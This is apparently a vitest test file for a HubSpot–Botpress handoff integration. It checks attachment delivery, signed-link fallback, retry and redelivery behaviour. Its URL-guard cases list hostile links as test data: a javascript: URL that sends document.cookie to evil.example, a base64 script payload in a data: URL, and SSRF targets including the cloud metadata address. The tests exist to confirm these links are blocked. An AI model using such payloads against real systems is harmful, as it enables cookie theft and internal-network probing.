import nock from 'nock'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { httpTuning } from '../../hubspot'
import { seedEndUser, seedHitlConversation, seedSetup } from '../../../tests/helpers/hitl-fixtures'
import { hubspot, nockTokenRefresh } from '../../../tests/helpers/nock-hubspot'
import { makeProps } from '../../../tests/helpers/props'
import { signedRequest } from '../../../tests/helpers/sign'
import { agentReply } from '../../../tests/helpers/webhook-events'
import { resetCaches } from '../../cache'
import { ALLOW_PRIVATE_MEDIA_ENV } from '../../hitl/url-guard'
import { loadHitlState } from '../../hitl/hitl-state'
import { handler } from '../handler'
import { attachmentDroppedNotice, NOTHING_TO_SHOW_REASON } from './agent-replied'
import { fakeError, fakeChannelMessage, fakeComment, fakeSignedUrl } from '../../../tests/helpers/hubspot-fakes'

/** Agent attachments: which links reach the end user, and what happens when one cannot. */

const THREAD_MESSAGES = '/conversations/conversations/2026-09/threads/9001/messages'

const setup = async () => {
  const props = makeProps()
  seedSetup(props.fake)
  const user = await seedEndUser(props.fake)
  const conversation = await seedHitlConversation(props.fake, user.id)
  const deliver = async (id: string, attachments: object[], text = '') =>
    (await handler({ ...props, req: signedRequest(agentReply(id, { text, richText: text ? `<p>${text}</p>` : '', attachments })) }))?.status
  /** What the end user sees, in order: [type, payload, tag]. */
  const seen = () => [...props.fake.messages.values()].map((m) => [m.type, m.payload, m.tags.hubspotMessageId])
  /** This module's warnings (an unreadable agent profile, not mocked here, warns too). */
  const warnings = () => props.lines.filter((l) => l.level === 'warn' && !l.message.startsWith('Could not read HubSpot agent')).map((l) => l.message)
  return { props, conversation, deliver, seen, warnings }
}

const receipt = (messageId: string, statusType: 'SENT' | 'FAILED', times = 1) =>
  hubspot()
    .patch(`/conversations/custom-channels/2026-09/ch1/messages/${messageId}`, (b: { statusType: string }) => b.statusType === statusType)
    .times(times)
    .reply(200, fakeChannelMessage({ id: messageId, direction: 'OUTGOING', status: { statusType } }))

const signedUrl = (fileId: string) => hubspot().get(`/files/2026-03/files/${fileId}/signed-url`).query(true)

/** Records the agent-only notes posted on the thread. */
const comments = () => {
  const posted: { type: string; text: string }[] = []
  const scope = hubspot()
    .post(THREAD_MESSAGES, (b: { type: string; text: string }) => (posted.push(b), true))
    .reply(201, fakeComment({ id: 'note-1', conversationsThreadId: '9001' }))
  return { posted, scope }
}

let savedFlag: string | undefined
beforeEach(() => {
  nock.disableNetConnect()
  resetCaches()
  httpTuning.sleep = async () => {}
  savedFlag = process.env[ALLOW_PRIVATE_MEDIA_ENV]
  delete process.env[ALLOW_PRIVATE_MEDIA_ENV]
})
afterEach(() => {
  nock.cleanAll()
  if (savedFlag === undefined) delete process.env[ALLOW_PRIVATE_MEDIA_ENV]
  else process.env[ALLOW_PRIVATE_MEDIA_ENV] = savedFlag
})

describe('agent attachments: only http(s) links to public hosts reach the end user', () => {
  it.each([
    ['javascript:', 'javascript:fetch("//evil.example/"+document.cookie)', 'its scheme javascript: is not http or https'],
    ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'its scheme data: is not http or https'],
    ['private-address', 'http://10.0.0.7/secret/report.pdf?token=abc', 'its host 10.0.0.7 is a private or local address'],
    ['cloud-metadata', 'http://169.254.169.254/latest/meta-data/', 'its host 169.254.169.254 is a private or local address'],
    ['localhost', 'http://localhost:8080/admin/export.pdf', 'its host localhost is a private or local address'],
  ])('a %s link is replaced by HubSpot’s signed link, and the log names only the scheme or host', async (_, url, reason) => {
    const { deliver, seen, warnings } = await setup()
    nockTokenRefresh()
    const signed = signedUrl('f1').reply(200, fakeSignedUrl('https://signed.example/f1?sig=1'))
    const sent = receipt('m1', 'SENT')
    expect(await deliver('m1', [{ type: 'FILE', fileId: 'f1', name: 'report.pdf', url, fileUsageType: 'OTHER' }])).toBe(200)
    expect(seen()).toEqual([['file', { fileUrl: 'https://signed.example/f1?sig=1', title: 'report.pdf' }, 'm1:0']])
    expect(signed.isDone() && sent.isDone()).toBe(true)
    expect(warnings()).toEqual([
      `Not passing on the link HubSpot gave for attachment report.pdf of message m1: ${reason}. Asking HubSpot for a signed link instead.`,
    ])
    // Neither the path, the query nor a data: payload reaches the log.
    const path = url.slice(url.indexOf(':') + 1).replace(/^\/\/[^/]+/, '')
    expect(warnings().join('\n')).not.toContain(path)
  })

  it('a signed link that is itself refused drops the attachment: the end user and the agent are told, 200', async () => {
    const { deliver, seen, warnings } = await setup()
    nockTokenRefresh()
    signedUrl('f1').reply(200, fakeSignedUrl('http://127.0.0.1:9/f1'))
    const note = comments()
    receipt('m1', 'SENT')
    expect(await deliver('m1', [{ type: 'FILE', fileId: 'f1', name: 'report.pdf', url: 'javascript:alert(1)' }], 'See attached')).toBe(200)
    expect(seen()).toEqual([
      ['text', { text: 'See attached' }, 'm1'],
      ['text', { text: attachmentDroppedNotice('report.pdf') }, 'm1:0'],
    ])
    expect(note.posted).toHaveLength(1)
    expect(note.posted[0]?.type).toBe('COMMENT')
    expect(note.posted[0]?.text).toContain("HubSpot's download link for it was refused: its host 127.0.0.1 is a private or local address")
    expect(warnings().some((w) => w.includes('Agent attachment report.pdf (m1:0) was not passed on to the end user'))).toBe(true)
  })

  it(`passes loopback links on with ${ALLOW_PRIVATE_MEDIA_ENV}=true (sandbox and e2e), still http(s) only`, async () => {
    process.env[ALLOW_PRIVATE_MEDIA_ENV] = 'true'
    const { deliver, seen } = await setup()
    nockTokenRefresh()
    receipt('m1', 'SENT')
    expect(
      await deliver('m1', [{ type: 'FILE', fileId: 'f1', name: 'shot.png', url: 'http://127.0.0.1:4000/_files/f1/shot.png', fileUsageType: 'IMAGE' }])
    ).toBe(200)
    expect(seen()).toEqual([['image', { imageUrl: 'http://127.0.0.1:4000/_files/f1/shot.png', title: 'shot.png' }, 'm1:0']])
  })

  it('normal path: attachments with usable links cost no HubSpot request but the receipt, and one Botpress write each', async () => {
    const { deliver, props } = await setup()
    nockTokenRefresh()
    receipt('m0', 'SENT')
    await deliver('m0', [], 'warm up') // the agent user is created and cached
    const sent = receipt('m1', 'SENT')
    props.fake.calls.length = 0
    const files = [
      { type: 'FILE', fileId: 'f1', name: 'a.png', url: 'https://files.example/a.png', fileUsageType: 'IMAGE' },
      { type: 'FILE', fileId: 'f2', name: 'b.pdf', url: 'https://files.example/b.pdf' },
    ]
    expect(await deliver('m1', files)).toBe(200)
    expect(props.fake.calls).toEqual(['getState', 'getOrCreateMessage', 'getOrCreateMessage'])
    expect(sent.isDone()).toBe(true)
    expect(nock.pendingMocks()).toEqual([])
  })
})

describe('agent attachments: a permanent HubSpot failure does not make HubSpot redeliver forever', () => {
  const attachments = [
    { type: 'FILE', fileId: 'f1', name: 'screen.png', url: 'https://files.example/screen.png', fileUsageType: 'IMAGE' },
    { type: 'FILE', fileId: 'gone', name: 'contract.pdf', fileUsageType: 'OTHER' }, // no url: a signed link is needed
  ]

  it('404 on the signed link: text and the other attachment delivered, the end user and the agent told, SENT, 200; a redelivery adds nothing', async () => {
    const { deliver, seen, warnings } = await setup()
    nockTokenRefresh()
    signedUrl('gone').times(2).reply(404, { status: 'error', message: 'File not found', category: 'OBJECT_NOT_FOUND', correlationId: 'c-404' })
    const note = comments() // once: a second note would find no interceptor, fail as a network error and answer 500
    const sent = receipt('m1', 'SENT', 2)
    const failed = receipt('m1', 'FAILED')

    expect(await deliver('m1', attachments, 'Here you go')).toBe(200)
    const delivered = [
      ['text', { text: 'Here you go' }, 'm1'],
      ['image', { imageUrl: 'https://files.example/screen.png', title: 'screen.png' }, 'm1:0'],
      ['text', { text: attachmentDroppedNotice('contract.pdf') }, 'm1:1'],
    ]
    expect(seen()).toEqual(delivered)
    expect(note.posted).toEqual([
      expect.objectContaining({
        type: 'COMMENT',
        text: expect.stringContaining('Bot: your attachment contract.pdf could not be passed on to the customer'),
      }),
    ])
    expect(note.posted[0]?.text).toContain('HubSpot refused a download link for it (HTTP 404)')
    // The log carries HubSpot's details (status, category, correlationId) for whoever investigates.
    expect(warnings().filter((w) => w.includes('was not passed on') && w.includes('404 OBJECT_NOT_FOUND') && w.includes('c-404'))).toHaveLength(1)

    expect(await deliver('m1', attachments, 'Here you go')).toBe(200) // HubSpot redelivers (e.g. our 200 was lost)
    expect(seen()).toEqual(delivered)
    expect(note.posted).toHaveLength(1)
    expect(sent.isDone()).toBe(true)
    expect(failed.isDone()).toBe(false)
  })

  it.each([400, 403, 410])('%d is permanent too', async (status) => {
    const { deliver, seen } = await setup()
    nockTokenRefresh()
    signedUrl('gone').reply(status, fakeError({ message: 'no' }))
    comments()
    receipt('m1', 'SENT')
    expect(await deliver('m1', [attachments[1]!])).toBe(200)
    expect(seen()).toEqual([['text', { text: attachmentDroppedNotice('contract.pdf') }, 'm1:0']])
  })

  it('a note HubSpot refuses for good (403) does not cost the end user their notice', async () => {
    const { deliver, seen, warnings } = await setup()
    nockTokenRefresh()
    signedUrl('gone').reply(404, fakeError({ message: 'File not found' }))
    hubspot()
      .post(THREAD_MESSAGES)
      .reply(403, fakeError({ message: 'missing scope', category: 'MISSING_SCOPES' }))
    receipt('m1', 'SENT')
    expect(await deliver('m1', [attachments[1]!])).toBe(200)
    expect(seen()).toEqual([['text', { text: attachmentDroppedNotice('contract.pdf') }, 'm1:0']])
    expect(
      warnings().some((w) => w.startsWith('Could not tell the agent on HubSpot thread 9001 that attachment contract.pdf was not delivered'))
    ).toBe(true)
  })
})

describe('agent attachments: failures a retry can fix still answer 500 (HubSpot redelivers)', () => {
  it.each([
    [503, 'HubSpot unavailable'],
    [429, 'rate limited'],
    [408, 'request timeout'],
    [500, 'internal error'],
  ])('%d on the signed link (%s): FAILED receipt, 500, nothing posted for the attachment', async (status) => {
    const { deliver, seen } = await setup()
    nockTokenRefresh()
    signedUrl('f3')
      .times(6)
      .reply(status, fakeError({ message: 'try later' }))
    const failed = receipt('m1', 'FAILED')
    expect(await deliver('m1', [{ type: 'FILE', fileId: 'f3', name: 'guide.pdf' }], 'Manual attached')).toBe(500)
    expect(failed.isDone()).toBe(true)
    expect(seen()).toEqual([['text', { text: 'Manual attached' }, 'm1']])
  })

  it('a network failure on the signed link: 500', async () => {
    const { deliver } = await setup()
    nockTokenRefresh()
    // An Error instance: nock 14 leaves a plain-object error hanging (nock/nock#2789).
    signedUrl('f3')
      .times(6)
      .replyWithError(Object.assign(new Error('socket hang up'), { code: 'ECONNRESET' }))
    receipt('m1', 'FAILED')
    // A retry can fix it: nobody is told the attachment was dropped (the note would be accepted).
    const note = comments()
    expect(await deliver('m1', [{ type: 'FILE', fileId: 'f3', name: 'guide.pdf' }])).toBe(500)
    expect(note.posted).toEqual([])
  })

  it('a transient failure posting the note: 500 and no notice yet; the redelivery tells both, once', async () => {
    const { deliver, seen } = await setup()
    nockTokenRefresh()
    signedUrl('gone')
      .times(2)
      .reply(404, fakeError({ message: 'File not found' }))
    hubspot()
      .post(THREAD_MESSAGES)
      .reply(502, fakeError({ message: 'bad gateway' })) // a POST is not retried
    receipt('m1', 'FAILED')
    const only = [{ type: 'FILE', fileId: 'gone', name: 'contract.pdf' }]
    expect(await deliver('m1', only)).toBe(500)
    expect(seen()).toEqual([])

    const note = comments()
    receipt('m1', 'SENT')
    expect(await deliver('m1', only)).toBe(200)
    expect(note.posted).toHaveLength(1)
    expect(seen()).toEqual([['text', { text: attachmentDroppedNotice('contract.pdf') }, 'm1:0']])
  })

  it('Botpress failing to post the notice: 500', async () => {
    const { deliver, props } = await setup()
    nockTokenRefresh()
    signedUrl('gone').reply(404, fakeError({ message: 'File not found' }))
    comments()
    receipt('m1', 'FAILED')
    props.fake.failNext = { method: 'getOrCreateMessage', error: new Error('botpress down') }
    expect(await deliver('m1', [{ type: 'FILE', fileId: 'gone', name: 'contract.pdf' }])).toBe(500)
  })
})

describe('a message with nothing the end user can be shown', () => {
  it('no text and only a location and quick replies: nothing posted, FAILED with the reason (never SENT), 200; the same on redelivery', async () => {
    const { props, conversation, deliver, seen } = await setup()
    nockTokenRefresh()
    const failed: string[] = []
    hubspot()
      .patch(
        '/conversations/custom-channels/2026-09/ch1/messages/m1',
        (b: { statusType: string; errorMessage?: string }) => (failed.push(`${b.statusType}: ${b.errorMessage}`), true)
      )
      .times(2)
      .reply(200, fakeChannelMessage({ id: 'm1', direction: 'OUTGOING' }))
    const attachments = [
      { type: 'LOCATION', latitude: 59.3, longitude: 18.1, name: 'Pickup point' },
      { type: 'QUICK_REPLIES', quickReplies: [{ value: 'yes', valueType: 'TEXT', label: 'Yes' }] },
    ]
    expect(await deliver('m1', attachments)).toBe(200)
    expect(await deliver('m1', attachments)).toBe(200)
    expect(seen()).toEqual([])
    expect(failed).toEqual([`FAILED: ${NOTHING_TO_SHOW_REASON}`, `FAILED: ${NOTHING_TO_SHOW_REASON}`])
    // The plugin was given no message, so it assigned nobody: nothing is recorded as its assignment.
    expect((await loadHitlState(props.client, conversation.id)).assigneeActorId).toBeUndefined()
    expect(nock.isDone()).toBe(true)
  })

  it('text with a location: the text is posted and SENT, as before', async () => {
    const { deliver, seen } = await setup()
    nockTokenRefresh()
    const sent = receipt('m2', 'SENT')
    expect(await deliver('m2', [{ type: 'LOCATION', latitude: 59.3, longitude: 18.1 }], 'See you there')).toBe(200)
    expect(seen()).toEqual([['text', expect.objectContaining({ text: expect.stringContaining('See you there') }), 'm2']])
    expect(sent.isDone()).toBe(true)
  })
})

describe('a redelivery after the session ended, of a message that was delivered', () => {
  it('whose first attachment could not be shown (a location) finds the file it posted: no FAILED, no close', async () => {
    const { props, conversation, deliver, seen, warnings } = await setup()
    nockTokenRefresh()
    const sent = receipt('m1', 'SENT')
    const attachments = [
      { type: 'LOCATION', latitude: 59.3, longitude: 18.1 },
      { type: 'FILE', fileId: 'f1', name: 'label.pdf', url: 'https://files.example/label.pdf', fileUsageType: 'OTHER' },
    ]
    expect(await deliver('m1', attachments)).toBe(200)
    expect(seen()).toEqual([['file', { fileUrl: 'https://files.example/label.pdf', title: 'label.pdf' }, 'm1:1']])
    expect(sent.isDone()).toBe(true)
    props.fake.states.set(`conversation:${conversation.id}:hitl`, { status: 'stopped' })
    // Nothing is mocked any more: a FAILED receipt or a close would fail on nock and be warned about.
    expect(await deliver('m1', attachments)).toBe(200)
    expect(warnings()).toEqual([])
    expect(seen()).toHaveLength(1)
  })
})
